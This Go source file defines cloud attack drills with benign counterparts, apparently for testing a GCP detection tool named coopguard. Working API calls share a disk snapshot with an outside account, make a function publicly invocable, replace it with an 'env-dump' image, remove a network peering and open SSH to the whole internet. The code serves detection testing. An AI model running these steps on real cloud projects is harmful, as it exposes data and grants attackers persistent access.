package attack

import (
	"context"

	"cloud.google.com/go/compute/apiv1/computepb"
	"cloud.google.com/go/run/apiv2/runpb"
	"google.golang.org/protobuf/proto"
)

// moreCatalogueScenarios are the catalogue's drills that came after the
// first set (catalogueScenarios): a snapshot that already exists shared,
// coopguard's function backdoored or overwritten, a peering of the
// sandbox's network removed, SSH opened on it by someone else, and their
// benign counterparts.
func moreCatalogueScenarios() []Scenario {
	return []Scenario{
		{Name: "gcp.exfiltration.share-compute-disk-snapshot", Kind: Attack, Actor: actorOther, Counterpart: "operator-team-image",
			Summary: "shares an existing snapshot of the sandbox's boot disk with an outside account: snapshots.setIamPolicy (allowed)",
			Setup: func(ctx context.Context, w *World) error {
				// Stratus's warm-up: the disk and a snapshot of it exist.
				return w.snapshotSandboxDisk(ctx, w.Sandbox.Name+"-nightly")
			},
			Act: func(ctx context.Context, w *World) error {
				snap := w.Sandbox.Name + "-nightly"
				_, err := w.Operator.Snapshots.SetIamPolicy(ctx, &computepb.SetIamPolicySnapshotRequest{Project: w.Cfg.Cloud.GCP.Project, Resource: snap,
					GlobalSetPolicyRequestResource: &computepb.GlobalSetPolicyRequest{Policy: shareWithAttacker()}})
				return allowed(err, "snapshots.setIamPolicy "+snap)
			}},
		{Name: "gcp.persistence.backdoor-cloud-function", Kind: Notify, Actor: actorOther, Counterpart: "operator-team-service-deploy",
			Summary: "lets anyone invoke coopguard's HandleLogEntry function through the Cloud Run service it is: Services.SetIamPolicy allUsers (allowed); as drill coopguard-function-opened",
			Setup:   seedCoopguardFunction,
			Act:     actOf("coopguard-function-opened")},
		{Name: "gcp.persistence.overwrite-cloud-function", Kind: Notify, Actor: actorOther, Counterpart: "operator-team-service-deploy",
			Summary: "replaces the code of coopguard's HandleLogEntry function with its own image, through the Cloud Run service it is: Services.UpdateService (allowed)",
			Setup:   seedCoopguardFunction,
			Act: func(ctx context.Context, w *World) error {
				return w.redeployService(ctx, "coopguard-handle-log-entry", "us-docker.pkg.dev/stratus-red-team/functions/env-dump")
			}},
		{Name: "sandbox-network-unpeered", Kind: Notify, Actor: actorOther, Counterpart: "operator-team-unpeer",
			Summary: "removes a peering of the sandbox's network: networks.removePeering (allowed)",
			Setup: func(ctx context.Context, w *World) error {
				return w.peer(ctx, w.Sandbox.Network(), "stratus-peer")
			},
			Act: func(ctx context.Context, w *World) error {
				return w.unpeer(ctx, w.Sandbox.Network(), "stratus-peer")
			}},

		{Name: "sandbox-ssh-opened", Kind: Notify, Actor: actorOther, Counterpart: "operator-team-firewall",
			Summary: "opens SSH from the internet on the sandbox's network under a name of its own: firewalls.insert 0.0.0.0/0 tcp:22 (allowed; the entry names the network only in its request)",
			Act: func(ctx context.Context, w *World) error {
				return w.openSSH(ctx, w.Sandbox.Network(), "stratus-ssh")
			}},

		// Benign counterparts.
		{Name: "operator-team-firewall", Kind: Benign, Actor: actorOperator, Counterpart: "sandbox-ssh-opened",
			Summary: "opens SSH on the team's own network (not the sandbox's): networks.insert, firewalls.insert",
			Act: func(ctx context.Context, w *World) error {
				if err := w.insertNetwork(ctx, "team-net"); err != nil {
					return err
				}
				return w.openSSH(ctx, "team-net", "team-ssh")
			}},
		{Name: "operator-team-service-deploy", Kind: Benign, Actor: actorOperator, Counterpart: "gcp.persistence.overwrite-cloud-function",
			Summary: "deploys a new image of the team's own Cloud Run service (not coopguard's): Services.UpdateService",
			Setup: func(ctx context.Context, w *World) error {
				w.Emu.Run.SeedService(w.Cfg.Cloud.GCP.Project, w.Cfg.Region(), "team-api", nil)
				return nil
			},
			Act: func(ctx context.Context, w *World) error {
				return w.redeployService(ctx, "team-api", "us-docker.pkg.dev/team/api/server:v2")
			}},
		{Name: "operator-team-unpeer", Kind: Benign, Actor: actorOperator, Counterpart: "sandbox-network-unpeered",
			Summary: "removes a peering of the team's own network (not the sandbox's): networks.removePeering",
			Setup: func(ctx context.Context, w *World) error {
				if err := w.insertNetwork(ctx, "team-net"); err != nil {
					return err
				}
				return w.peer(ctx, "team-net", "team-peer")
			},
			Act: func(ctx context.Context, w *World) error {
				return w.unpeer(ctx, "team-net", "team-peer")
			}},
	}
}

// seedCoopguardFunction deploys, as deploy does, the Cloud Run service of
// coopguard's HandleLogEntry function, invoked by Eventarc's account only.
func seedCoopguardFunction(_ context.Context, w *World) error {
	w.Emu.Run.SeedService(w.Cfg.Cloud.GCP.Project, w.Cfg.Region(), "coopguard-handle-log-entry", nil)
	return nil
}

// redeployService is the operator (or whoever holds its credentials)
// giving Cloud Run service name a new image, read-modify-write under its
// etag, through the official Services client, and waiting for it.
func (w *World) redeployService(ctx context.Context, name, image string) error {
	res := "projects/" + w.Cfg.Cloud.GCP.Project + "/locations/" + w.Cfg.Region() + "/services/" + name
	svc, err := w.Operator.Services.GetService(ctx, &runpb.GetServiceRequest{Name: res})
	if err != nil {
		return allowed(err, "GetService "+res)
	}
	svc.Template = &runpb.RevisionTemplate{Containers: []*runpb.Container{{Image: image}}}
	op, err := w.Operator.Services.UpdateService(ctx, &runpb.UpdateServiceRequest{Service: svc})
	if err == nil {
		_, err = op.Wait(ctx)
	}
	return allowed(err, "UpdateService "+res)
}

// snapshotSandboxDisk is the operator taking snapshot name of the
// sandbox's boot disk and waiting for it.
func (w *World) snapshotSandboxDisk(ctx context.Context, name string) error {
	p, z, d := w.Cfg.Cloud.GCP.Project, w.Cfg.Cloud.GCP.Zone, w.Sandbox.Name
	op, err := w.Operator.Disks.CreateSnapshot(ctx, &computepb.CreateSnapshotDiskRequest{Project: p, Zone: z, Disk: d,
		SnapshotResource: &computepb.Snapshot{Name: proto.String(name)}})
	if err == nil {
		err = op.Wait(ctx)
	}
	return allowed(err, "disks.createSnapshot "+d+" as "+name)
}

// peer is the operator creating network peer and peering network with it.
func (w *World) peer(ctx context.Context, network, peer string) error {
	if err := w.insertNetwork(ctx, peer); err != nil {
		return err
	}
	op, err := w.Operator.Networks.AddPeering(ctx, &computepb.AddPeeringNetworkRequest{Project: w.Cfg.Cloud.GCP.Project, Network: network,
		NetworksAddPeeringRequestResource: &computepb.NetworksAddPeeringRequest{NetworkPeering: &computepb.NetworkPeering{
			Name: proto.String(network + "-to-" + peer), Network: proto.String("global/networks/" + peer), ExchangeSubnetRoutes: proto.Bool(true)}}})
	if err == nil {
		err = op.Wait(ctx)
	}
	return allowed(err, "networks.addPeering "+network+" to "+peer)
}

// unpeer is the operator removing the peering peer made.
func (w *World) unpeer(ctx context.Context, network, peer string) error {
	op, err := w.Operator.Networks.RemovePeering(ctx, &computepb.RemovePeeringNetworkRequest{Project: w.Cfg.Cloud.GCP.Project, Network: network,
		NetworksRemovePeeringRequestResource: &computepb.NetworksRemovePeeringRequest{Name: proto.String(network + "-to-" + peer)}})
	if err == nil {
		err = op.Wait(ctx)
	}
	return allowed(err, "networks.removePeering "+network+"-to-"+peer)
}

// openSSH is the operator allowing tcp:22 from anywhere into network
// under firewall name, and waiting for it.
func (w *World) openSSH(ctx context.Context, network, name string) error {
	op, err := w.Operator.Firewalls.Insert(ctx, &computepb.InsertFirewallRequest{Project: w.Cfg.Cloud.GCP.Project, FirewallResource: &computepb.Firewall{
		Name: proto.String(name), Network: proto.String("global/networks/" + network), Direction: proto.String("INGRESS"),
		SourceRanges: []string{"0.0.0.0/0"}, Allowed: []*computepb.Allowed{{IPProtocol: proto.String("tcp"), Ports: []string{"22"}}}}})
	if err == nil {
		err = op.Wait(ctx)
	}
	return allowed(err, "firewalls.insert "+name+" on "+network)
}
